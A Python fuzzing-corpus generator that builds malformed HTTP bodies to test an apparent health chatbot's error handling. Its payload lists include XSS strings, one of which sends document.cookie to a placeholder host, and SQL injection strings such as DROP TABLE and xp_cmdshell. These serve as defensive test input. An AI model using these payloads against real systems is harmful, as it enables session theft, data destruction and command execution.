"""Generated bad input: raw HTTP bodies, each with a category and whether it is a chat turn.

`corpus(seed)` builds the same 560 requests every time: empty and whitespace-only text,
10 kB text, control characters, invalid UTF-8, HTML/script, SQL-looking text, emoji, other
languages, random Unicode, text that looks like an intent payload, odd JSON types, lone
surrogate escapes, and bodies of random bytes. A *turn* is a JSON object with a sender: it
must get a bot reply. Anything else must get a 4xx with an error, never a 5xx.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import List

HTML = ["<script>alert('{w}')</script>", "<img src=x onerror=alert({n})>", "<b>{w}</b><i>{w}</i>",
        "<iframe src=\"javascript:alert({n})\"></iframe>", "<svg/onload=alert('{w}')>",
        "\"><script>document.location='http://x/?c='+document.cookie</script>", "<a href='{w}'>{w}</a>",
        "<style>*{{display:none}}</style>{w}", "{{{{7*7}}}} ${{{n}*{n}}} <%= {n} %>", "<!-- {w} -->"]
SQL = ["'; DROP TABLE events; --", "' OR '1'='1", "1; SELECT * FROM events WHERE sender_id LIKE '%'",
       "admin'--", "\" OR \"\"=\"", "1 UNION SELECT password FROM users", "'; UPDATE events SET data=NULL; --",
       "{w}'); DELETE FROM events WHERE ('1'='1", "%' AND 1=0 UNION ALL SELECT NULL,NULL--", "\\'; EXEC xp_cmdshell('dir'); --"]
EMOJI = "😀😂🔥💪🙏🤕😵‍💫👍🏽🧘‍♀️❤️🇬🇧👨‍👩‍👧‍👦🫠🤌🏼✋"
LANGUAGES = ["¿Por qué me duele la muñeca?", "Warum kribbelt meine Hand?", "Pourquoi mon poignet picote-t-il ?",
             "为什么我的手腕刺痛？", "手首がしびれるのはなぜですか", "왜 손목이 저린가요?", "Почему у меня немеет рука?",
             "لماذا يؤلمني معصمي؟", "मेरी कलाई में झुनझुनी क्यों होती है?", "למה כואב לי בשורש כף היד?",
             "Γιατί μυρμηγκιάζει ο καρπός μου;", "Neden bileğim karıncalanıyor?", "Dlaczego mrowi mnie nadgarstek?",
             "ทำไมข้อมือของฉันถึงเสียวซ่า", "Tại sao cổ tay tôi bị tê?", "Miksi ranteeni pistelee?"]
WORDS = ["wrist", "neck", "tingle", "press", "hold", "knot", "why", "pain", "left", "ready", "the", "my", "is"]
INTENTS = ["/", "/restart_nonexistent", "/hold_finished{\"hold_id\": 5}", "/hold_finished{not json",
           "/affirm{\"side\": [1, 2]}", "/" + "x" * 300, "/faq", "/session_start{}", "/nlu_fallback",
           "/hold_finished{\"hold_id\": \"" + "9" * 500 + "\"}"]


@dataclass
class BadRequest:
    category: str
    body: bytes
    is_turn: bool  # a JSON object with a sender: must get a bot reply


def _turn(category: str, sender: str, message) -> BadRequest:
    return BadRequest(category, json.dumps({"sender": sender, "message": message}).encode(), True)


def _random_text(rng: random.Random, length: int, low: int, high: int) -> str:
    chars = []
    while len(chars) < length:
        code = rng.randint(low, high)
        if not 0xD800 <= code <= 0xDFFF:  # surrogates are not characters
            chars.append(chr(code))
    return "".join(chars)


def corpus(seed: int = 5, senders: int = 12) -> List[BadRequest]:
    rng = random.Random(seed)
    sender = lambda: f"bad-input-{seed}-{rng.randrange(senders)}"  # noqa: E731 (a few conversations)
    out: List[BadRequest] = []
    out += [_turn("empty", sender(), "") for _ in range(10)]
    spaces = [" ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u200b", "\u3000", "\ufeff", "\u2028"]
    out += [_turn("whitespace", sender(), "".join(rng.choices(spaces, k=rng.randint(1, 40)))) for _ in range(30)]
    out += [_turn("10 kB", sender(), text[:10_240]) for text in
            [" ".join(rng.choices(WORDS, k=2600)) for _ in range(8)] + ["a" * 10_240, "why " * 2560]
            + [_random_text(rng, 5000, 0x20, 0x2FFF) for _ in range(4)] + [EMOJI * 700] * 2]
    out += [_turn("control characters", sender(), _random_text(rng, rng.randint(1, 60), 0, 0x1F)
                  + rng.choice(["", "hi", "\x7f", "\x85\x9b"])) for _ in range(60)]
    out += [_turn("HTML/script", sender(), rng.choice(HTML).format(w=rng.choice(WORDS), n=rng.randint(0, 99)))
            for _ in range(40)]
    out += [_turn("SQL-looking", sender(), rng.choice(SQL).format(w=rng.choice(WORDS))) for _ in range(40)]
    out += [_turn("emoji", sender(), "".join(rng.choices(EMOJI, k=rng.randint(1, 30)))) for _ in range(40)]
    out += [_turn("other languages", sender(), rng.choice(LANGUAGES)) for _ in range(60)]
    out += [_turn("random Unicode", sender(), _random_text(rng, rng.randint(1, 200), 0x20, 0x10FFFF))
            for _ in range(60)]
    out += [_turn("intent-like", sender(), rng.choice(INTENTS)) for _ in range(30)]
    for _ in range(60):  # raw bytes inside the message string: most of them invalid UTF-8
        raw = bytes(b for b in rng.randbytes(rng.randint(1, 120)) if b not in b'"\\')
        body = b'{"sender": "' + sender().encode() + b'", "message": "' + raw + b'"}'
        out.append(BadRequest("invalid UTF-8", body, True))
    odd = [None, 42, 3.5, True, [], ["hi"], {"text": "hi"}, {"message": None}]
    out += [_turn("odd JSON types", sender(), rng.choice(odd)) for _ in range(14)]
    out += [BadRequest("odd JSON types", json.dumps({"sender": 12345}).encode(), True) for _ in range(6)]
    out += [BadRequest("lone surrogates", b'{"sender": "' + sender().encode() + b'", "message": "\\ud800 hi \\udfff"}',
                       True) for _ in range(10)]
    bodies = [rng.randbytes(rng.randint(0, 400)) for _ in range(30)] + [
        b"", b"null", b"[]", b'"just a string"', b'{"message": "no sender"}', b'{"sender": ""}',
        b'{"sender": "   "}', json.dumps({"sender": "x" * 300, "message": "hi"}).encode(),
        b'{"sender": ["a"], "message": "hi"}', b'{"sender": "a", "message": "unterminated']
    out += [BadRequest("not a usable JSON body", body, False) for body in bodies]
    return out
